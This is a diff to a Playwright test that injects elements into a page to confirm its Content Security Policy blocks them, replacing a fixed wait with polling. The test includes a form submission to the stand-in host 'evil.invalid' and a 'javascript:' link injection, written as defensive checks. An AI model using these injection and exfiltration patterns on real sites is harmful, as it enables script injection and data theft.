@@ -29,8 +29,9 @@ test('what a page was not built with does not run, and nothing leaves it', async
   allow.error(/violates the following Content Security Policy directive|Refused to/)
   allow.host('evil.invalid')
   await page.goto(first)
-  const blocked = await page.evaluate(async () => {
+  await page.evaluate(() => {
     const seen: string[] = []
+    Object.assign(window, { blocked: seen })
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
     const add = (name: string, attributes: Record<string, string>, text = '') => {
       const element = document.createElement(name)
@@ -51,21 +52,22 @@ test('what a page was not built with does not run, and nothing leaves it', async
     const form = add('form', { action: 'https://evil.invalid/f', method: 'post' }) as HTMLFormElement
     form.submit()
     add('a', { href: 'javascript:window.injected=1' }).click()
-    await new Promise((done) => setTimeout(done, 500))
-    return { seen: [...new Set(seen)].sort(), injected: 'injected' in window }
   })
-  expect(blocked.injected).toBe(false)
-  expect(blocked.seen).toEqual(
-    expect.arrayContaining([
-      'base-uri',
-      'connect-src',
-      'form-action',
-      'frame-src',
-      'img-src',
-      'object-src',
-      'script-src-attr',
-      'script-src-elem',
-      'style-src-elem',
-    ]),
-  )
+  const blocked = () => page.evaluate(() => (window as unknown as { blocked: string[] }).blocked)
+  await expect
+    .poll(blocked)
+    .toEqual(
+      expect.arrayContaining([
+        'base-uri',
+        'connect-src',
+        'form-action',
+        'frame-src',
+        'img-src',
+        'object-src',
+        'script-src-attr',
+        'script-src-elem',
+        'style-src-elem',
+      ]),
+    )
+  expect(await page.evaluate(() => 'injected' in window)).toBe(false)
 })
